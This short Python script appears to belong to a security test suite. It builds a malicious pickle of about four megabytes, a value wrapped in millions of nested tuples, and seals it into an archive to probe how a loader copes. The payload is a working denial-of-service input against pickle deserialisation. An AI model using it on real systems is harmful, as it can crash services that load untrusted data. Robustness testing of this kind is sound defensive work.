"""Four megabytes that put a tuple around a tuple, over and over."""

from __future__ import annotations

from pathlib import Path

from attacks.trial import archive, main, write_sealed


def attack(folder: Path) -> Path:
    return write_sealed(folder, archive(b"\x80\x02N" + b"\x85" * (4 << 20) + b"."))


if __name__ == "__main__":
    main(attack)
